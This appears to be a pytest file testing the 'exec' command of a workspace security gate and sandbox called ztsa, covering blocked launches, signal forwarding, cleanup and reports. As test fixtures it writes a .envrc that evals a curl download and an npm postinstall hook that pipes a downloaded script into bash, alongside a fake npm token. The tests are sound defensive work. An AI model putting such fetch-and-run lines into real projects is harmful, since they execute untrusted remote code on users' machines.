"""`ztsa exec` command-line contract: the gate first, signals reach the tree."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time

import jsonschema
import pytest


def ztsa(*args: str, cwd: str, env: dict[str, str] | None = None) -> subprocess.Popen:
    # run outside the checkout, so that the installed ztsa (with its built native
    # helper) is imported, not the source tree
    return subprocess.Popen([sys.executable, "-m", "ztsa", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=cwd,
                            env={**os.environ, **(env or {})})


@pytest.mark.skipif(os.geteuid() != 0, reason="the gate fails on ENV001 only as root")
def test_failed_gate_never_starts_cmd(tmp_path):
    marker = tmp_path / "ran"
    # AGT009 blocks under untrusted: .envrc runs a fetched string when direnv enters
    (tmp_path / ".envrc").write_text("eval \"$(curl -fsSL https://x.invalid/env)\"\n")
    p = ztsa("exec", "--workspace", str(tmp_path), "--", "touch", str(marker), cwd=tmp_path)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 3
    assert not marker.exists()
    assert "AGT009" in err and "CMD was not started" in err


def test_bad_allow_net_is_a_usage_error(tmp_path):
    p = ztsa("exec", "--profile", "repo", "--workspace", str(tmp_path),
             "--allow-net", "1.2.3.4:99999", "--", "true", cwd=tmp_path)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 2 and "port must be 1-65535" in err


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
def test_signals_to_ztsa_reach_the_tree(tmp_path, sig):
    ready = tmp_path / "ready"
    code = ("import signal, sys, time\n"
            f"signal.signal({int(sig)}, lambda *a: (print('got', a[0], flush=True), "
            "sys.exit(7)))\n"
            f"open({str(ready)!r}, 'w').close()\n"
            "time.sleep(30)\n")
    p = ztsa("exec", "--profile", "repo", "--workspace", str(tmp_path), "--",
             sys.executable, "-c", code, cwd=tmp_path)
    deadline = time.monotonic() + 30
    while not ready.exists() and time.monotonic() < deadline:
        assert p.poll() is None, p.communicate()
        time.sleep(0.05)
    p.send_signal(sig)
    out, _ = p.communicate(timeout=30)
    assert out.strip() == f"got {int(sig)}"
    assert p.returncode == 7


def failing_workspace(tmp_path):
    """A workspace whose gate fails for any caller: an install script that pipes a
    download into a shell (SUP003, SUP005 block under untrusted)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "package.json").write_text(
        '{"name": "x", "scripts": {"postinstall": "curl https://x.example/i.sh | bash"}}')
    return ws


def test_a_failed_gate_starts_nothing_for_any_caller(tmp_path):
    ws = failing_workspace(tmp_path)
    tag = f"ztsa-gate-{os.getpid()}"
    marker = tmp_path / "ran"
    p = ztsa("exec", "--profile", "untrusted", "--workspace", str(ws), "--", "sh", "-c",
             f"touch {marker}; sleep 30 # {tag}", cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 3, err
    assert "CMD was not started" in err
    assert not marker.exists()
    left = subprocess.run(["pgrep", "-f", tag], capture_output=True, text=True).stdout
    assert left == ""


def test_a_failed_gate_comes_before_a_missing_command(tmp_path):
    ws = failing_workspace(tmp_path)
    p = ztsa("exec", "--profile", "untrusted", "--workspace", str(ws), "--",
             "no-such-program-anywhere", cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 3 and "command not found" not in err
    p = ztsa("exec", "--profile", "repo", "--workspace", str(ws), "--",
             "no-such-program-anywhere", cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 127 and "command not found" in err


def test_a_report_shown_by_exec_is_whole(tmp_path):
    """exec runs the rules that cannot block only when the gate fails; the report it
    then shows has their warnings, as `ztsa check` does."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "package.json").write_text('{"name": "x", "dependencies": {"y": "1"}}')  # SUP001
    token = "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    (ws / ".npmrc").write_text(f"//registry.npmjs.org/:_authToken={token}\n")  # FS005
    marker = ws / "ran"
    p = ztsa("exec", "--profile", "repo", "--workspace", str(ws), "--", "touch", str(marker),
             cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 3 and not marker.exists()
    assert "BLOCK  FS005" in err and "WARN   SUP001" in err, err
    # the same workspace without the token: the gate passes and CMD runs; the missing
    # lockfile (hygiene) is named as a warning, and only it (no report of the machine)
    (ws / ".npmrc").unlink()
    p = ztsa("exec", "--profile", "repo", "--workspace", str(ws), "--", "touch", str(marker),
             cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 0, err
    assert marker.exists() and "WARN   SUP001" in err and "gate passed" in err, err
    assert "BLOCK" not in err and "This machine" not in err, err


def test_the_next_run_removes_what_a_killed_run_left(tmp_path):
    """SIGKILL leaves ztsa no time to remove its private home and TMPDIR; the next run
    removes them (their process is gone and their lock free), and nothing else. With a
    mount namespace they are a tmpfs of the tree's (--max-disk): the host's disk never
    holds what the tree wrote there, before the kill or after it."""
    ws = tmp_path / "ws"
    ws.mkdir()
    base = tmp_path / "tmp"
    base.mkdir()
    (base / "ztsa-run-0123456789ab").mkdir()  # an older ztsa's, or one kept: stays
    env = {**os.environ, "TMPDIR": str(base)}
    code = ("import os, time\n"
            "open(os.path.join(os.environ['HOME'], 'secret'), 'w').write('x')\n"
            "print(os.environ['TMPDIR'], flush=True)\n"
            "time.sleep(60)\n")
    p = subprocess.Popen([sys.executable, "-m", "ztsa", "exec", "--profile", "repo",
                          "--workspace", str(ws), "--", sys.executable, "-c", code],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ws,
                         env=env)
    private = os.path.dirname(p.stdout.readline().strip())
    runs = base / f"ztsa-{os.geteuid()}"  # the user's own base for private directories
    assert os.path.dirname(private) == str(runs)
    # while it runs, another run leaves it alone
    q = subprocess.run([sys.executable, "-m", "ztsa", "exec", "--profile", "repo",
                        "--workspace", str(ws), "--", "true"], capture_output=True,
                       text=True, cwd=ws, env=env, timeout=60)
    assert q.returncode == 0, q.stderr
    assert os.path.isdir(private)
    assert not os.path.exists(os.path.join(private, "home", "secret"))  # the tmpfs's
    p.kill()
    p.communicate(timeout=30)
    assert os.path.isdir(private)  # left behind
    assert not os.path.exists(os.path.join(private, "home", "secret"))
    q = subprocess.run([sys.executable, "-m", "ztsa", "exec", "--profile", "repo",
                        "--workspace", str(ws), "--", "true"], capture_output=True,
                       text=True, cwd=ws, env=env, timeout=60)
    assert q.returncode == 0, q.stderr
    assert not os.path.lexists(private)
    assert sorted(os.listdir(base)) == sorted(["ztsa-run-0123456789ab", runs.name])
    assert os.listdir(runs) == []


def test_exec_json_report_goes_to_stdout_alone(tmp_path):
    # AGT009 blocks under untrusted: .envrc runs a fetched string when direnv enters
    (tmp_path / ".envrc").write_text("eval \"$(curl -fsSL https://x.invalid/env)\"\n")
    p = ztsa("exec", "--format", "json", "--workspace", str(tmp_path), "--", "true",
             cwd=tmp_path)
    out, err = p.communicate(timeout=60)
    assert p.returncode == 3
    doc = json.loads(out)
    with open(os.path.join(os.path.dirname(__file__), "..", "docs", "report-schema.json")) as f:
        jsonschema.validate(doc, json.load(f))
    assert not doc["passed"]
    assert "CMD was not started" in err


def test_exec_quiet_drops_the_summary_line(tmp_path):
    loud = ztsa("exec", "--profile", "repo", "--workspace", str(tmp_path), "--", "true",
                cwd=tmp_path)
    quiet = ztsa("exec", "--profile", "repo", "--quiet", "--workspace", str(tmp_path), "--",
                 "true", cwd=tmp_path)
    _, loud_err = loud.communicate(timeout=60)
    _, quiet_err = quiet.communicate(timeout=60)
    assert loud.returncode == quiet.returncode == 0, loud_err
    assert "denied" in loud_err and "denied" not in quiet_err


def test_git_gets_the_callers_name_and_email_only(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[user]\n\tname = Z Tester\n\temail = z@t.invalid\n"
                                     "[credential]\n\thelper = store\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    script = "git config --global --list"
    p = ztsa("exec", "--profile", "repo", "--workspace", str(ws), "--", "sh", "-c", script,
             cwd=ws, env={"HOME": str(home)})
    out, err = p.communicate(timeout=60)
    assert p.returncode == 0, err
    assert sorted(out.splitlines()) == ["user.email=z@t.invalid", "user.name=Z Tester"]
    p = ztsa("exec", "--profile", "repo", "--no-git-identity", "--workspace", str(ws), "--",
             "sh", "-c", script, cwd=ws, env={"HOME": str(home)})
    out, _ = p.communicate(timeout=60)
    assert out == ""


@pytest.mark.parametrize("log", [False, True], ids=["no-log", "log"])
def test_the_summary_names_the_first_denials_and_the_flag_for_each(tmp_path, log):
    ws = tmp_path / "ws"
    ws.mkdir()
    script = ("python3 -c 'import socket; s = socket.socket(); s.connect((\"127.0.0.1\", 9))'"
              " 2>/dev/null; touch /etc/ztsa-denied-x 2>/dev/null; true")
    logging = ["--audit-log", str(tmp_path / "log.jsonl")] if log else []
    p = ztsa("exec", "--profile", "repo", *logging, "--workspace", str(ws), "--", "sh", "-c",
             script, cwd=ws)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 0, err
    line = next(x for x in err.splitlines() if "denied" in x and x.startswith("ztsa:"))
    assert line.startswith("ztsa: 2 denied")
    assert "connect 127.0.0.1:9 (not in --allow-net: --allow-net 127.0.0.1:9)" in line
    # no flag that would open a system directory, a home or a credential path
    assert "/etc/ztsa-denied-x (read-only outside the writable places; not to be opened: " \
        "a system directory)" in line
    assert "--allow-write /etc" not in err
    # a refused destination is said when first refused, once
    assert err.count("ztsa: refused connect 127.0.0.1:9 ") == 1, err
    assert not os.path.exists("/etc/ztsa-denied-x")
